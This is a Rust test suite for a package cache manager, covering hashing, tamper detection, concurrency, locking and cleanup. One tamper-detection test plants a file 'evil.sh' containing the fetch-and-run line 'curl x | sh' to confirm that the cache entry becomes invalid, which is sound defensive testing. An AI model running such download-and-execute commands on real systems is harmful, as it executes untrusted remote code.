#[cfg(test)]
mod tests {
    use e14z_cache::{CacheManager, CleanupOptions, InstallRecord};
    use e14z_config::CacheConfig;
    use tempfile::TempDir;
    use tokio::fs;

    fn manager() -> (TempDir, CacheManager) {
        let dir = TempDir::new().unwrap();
        let cache = CacheManager::new(dir.path(), &CacheConfig::default());
        (dir, cache)
    }

    async fn populate(cache: &CacheManager, name: &str, version: &str, body: &[u8]) {
        let location = cache.location(name, version);
        fs::create_dir_all(location.package_dir.join("bin")).await.unwrap();
        fs::write(location.package_dir.join("bin/server.js"), body)
            .await
            .unwrap();
        fs::write(location.package_dir.join("package.json"), b"{}")
            .await
            .unwrap();
    }

    #[tokio::test]
    async fn test_add_then_cached() {
        let (_dir, cache) = manager();
        assert!(!cache.is_cached("pkg", "1.0.0").await.unwrap());

        populate(&cache, "pkg", "1.0.0", b"console.log('hi')").await;
        let entry = cache
            .add_to_cache("pkg", "1.0.0", InstallRecord::new("npx -y pkg@1.0.0"))
            .await
            .unwrap();
        assert_eq!(entry.size, 17 + 2);
        assert_eq!(entry.content_hash.len(), 64);

        assert!(cache.is_cached("pkg", "1.0.0").await.unwrap());
        assert!(!cache.is_cached("pkg", "2.0.0").await.unwrap());

        let stored = cache.entry("pkg", "1.0.0").await.unwrap().unwrap();
        assert_eq!(stored.content_hash, entry.content_hash);
        assert!(stored.last_accessed >= entry.last_accessed);
        assert_eq!(stored.install_command.as_deref(), Some("npx -y pkg@1.0.0"));
    }

    #[tokio::test]
    async fn test_tampering_invalidates_entry() {
        let (_dir, cache) = manager();
        populate(&cache, "pkg", "1.0.0", b"original").await;
        cache
            .add_to_cache("pkg", "1.0.0", InstallRecord::default())
            .await
            .unwrap();

        let location = cache.location("pkg", "1.0.0");
        fs::write(location.package_dir.join("bin/server.js"), b"tampered")
            .await
            .unwrap();
        assert!(!cache.verify_integrity(&location).await.unwrap());
        assert!(!cache.is_cached("pkg", "1.0.0").await.unwrap());
    }

    #[tokio::test]
    async fn test_added_file_invalidates_entry() {
        let (_dir, cache) = manager();
        populate(&cache, "pkg", "1.0.0", b"x").await;
        cache
            .add_to_cache("pkg", "1.0.0", InstallRecord::default())
            .await
            .unwrap();
        let location = cache.location("pkg", "1.0.0");
        fs::write(location.package_dir.join("evil.sh"), b"curl x | sh")
            .await
            .unwrap();
        assert!(!cache.is_cached("pkg", "1.0.0").await.unwrap());
    }

    #[tokio::test]
    async fn test_add_without_directory_fails() {
        let (_dir, cache) = manager();
        assert!(cache
            .add_to_cache("ghost", "1.0.0", InstallRecord::default())
            .await
            .is_err());
    }

    #[tokio::test]
    async fn test_concurrent_adds_same_key() {
        let (_dir, cache) = manager();
        populate(&cache, "@scope/pkg", "1.0.0", b"body").await;

        let adds = (0..5).map(|_| {
            let cache = cache.clone();
            tokio::spawn(async move {
                cache
                    .add_to_cache("@scope/pkg", "1.0.0", InstallRecord::default())
                    .await
            })
        });
        let results = futures::future::join_all(adds).await;
        let hashes: Vec<String> = results
            .into_iter()
            .map(|r| r.unwrap().unwrap().content_hash)
            .collect();
        assert!(hashes.windows(2).all(|w| w[0] == w[1]));

        assert!(cache.is_cached("@scope/pkg", "1.0.0").await.unwrap());
        let stats = cache.cache_stats().await.unwrap();
        assert_eq!(stats.package_count, 1);
    }

    #[tokio::test]
    async fn test_concurrent_adds_distinct_keys() {
        let (_dir, cache) = manager();
        let names = ["alpha", "beta", "@scope/gamma", "delta", "epsilon"];
        for name in names {
            populate(&cache, name, "1.0.0", name.as_bytes()).await;
        }

        let adds = names.map(|name| {
            let cache = cache.clone();
            tokio::spawn(async move {
                cache
                    .add_to_cache(name, "1.0.0", InstallRecord::default())
                    .await
            })
        });
        for result in futures::future::join_all(adds).await {
            result.unwrap().unwrap();
        }

        for name in names {
            assert!(cache.is_cached(name, "1.0.0").await.unwrap(), "{name}");
            let entry = cache.entry(name, "1.0.0").await.unwrap().unwrap();
            assert_eq!(entry.name, name);
        }
        let stats = cache.cache_stats().await.unwrap();
        assert_eq!(stats.package_count, 5);
    }

    #[tokio::test]
    async fn test_held_lock_does_not_block_other_keys() {
        let (_dir, cache) = manager();
        populate(&cache, "b", "1", b"body").await;

        let _held = cache.lock("a", "1").await;
        let added = tokio::time::timeout(
            std::time::Duration::from_secs(5),
            cache.add_to_cache("b", "1", InstallRecord::default()),
        )
        .await;
        assert!(added.unwrap().is_ok());
        assert!(cache.try_lock("a", "1").is_none());
        assert!(cache.try_lock("b", "1").is_some());
    }

    #[tokio::test]
    async fn test_cleanup_by_size_skips_leased() {
        let (_dir, cache) = manager();
        let bodies: [(&str, &[u8]); 3] = [
            ("old", b"aaaaaaaaaa"),
            ("mid", b"bbbbbbbbbb"),
            ("new", b"cccccccccc"),
        ];
        for (name, body) in bodies {
            populate(&cache, name, "1", body).await;
            cache
                .add_to_cache(name, "1", InstallRecord::default())
                .await
                .unwrap();
            tokio::time::sleep(std::time::Duration::from_millis(5)).await;
        }
        // each entry is 12 bytes (10 + package.json)
        let lease = cache.lease("old", "1");
        let report = cache
            .cleanup(CleanupOptions {
                max_age: None,
                max_size: Some(20),
                remove_corrupted: false,
            })
            .await
            .unwrap();

        assert_eq!(report.skipped, vec!["old@1".to_string()]);
        assert_eq!(report.cleaned, vec!["mid@1".to_string(), "new@1".to_string()]);
        assert_eq!(report.freed_bytes, 24);
        assert!(cache.entry("old", "1").await.unwrap().is_some());
        drop(lease);

        let report = cache
            .cleanup(CleanupOptions {
                max_age: None,
                max_size: Some(0),
                remove_corrupted: false,
            })
            .await
            .unwrap();
        assert_eq!(report.cleaned, vec!["old@1".to_string()]);
        assert_eq!(cache.cache_stats().await.unwrap().package_count, 0);
    }

    #[tokio::test]
    async fn test_cleanup_by_age() {
        let (_dir, cache) = manager();
        populate(&cache, "pkg", "1", b"x").await;
        cache
            .add_to_cache("pkg", "1", InstallRecord::default())
            .await
            .unwrap();

        let keep = cache
            .cleanup(CleanupOptions {
                max_age: Some(chrono::Duration::days(1)),
                ..CleanupOptions::default()
            })
            .await
            .unwrap();
        assert!(keep.cleaned.is_empty());

        let expire = cache
            .cleanup(CleanupOptions {
                max_age: Some(chrono::Duration::zero()),
                ..CleanupOptions::default()
            })
            .await
            .unwrap();
        assert_eq!(expire.cleaned, vec!["pkg@1".to_string()]);
    }

    #[tokio::test]
    async fn test_cleanup_removes_corrupted_on_request() {
        let (_dir, cache) = manager();
        populate(&cache, "pkg", "1", b"x").await;
        cache
            .add_to_cache("pkg", "1", InstallRecord::default())
            .await
            .unwrap();
        let location = cache.location("pkg", "1");
        fs::remove_file(location.package_dir.join("package.json"))
            .await
            .unwrap();

        let report = cache
            .cleanup(CleanupOptions {
                remove_corrupted: true,
                ..CleanupOptions::default()
            })
            .await
            .unwrap();
        assert_eq!(report.cleaned, vec!["pkg@1".to_string()]);
    }

    #[tokio::test]
    async fn test_remove() {
        let (_dir, cache) = manager();
        populate(&cache, "pkg", "1", b"x").await;
        cache
            .add_to_cache("pkg", "1", InstallRecord::default())
            .await
            .unwrap();
        assert!(cache.remove("pkg", "1").await.unwrap());
        assert!(!cache.remove("pkg", "1").await.unwrap());
        assert!(!cache.is_cached("pkg", "1").await.unwrap());
    }
}
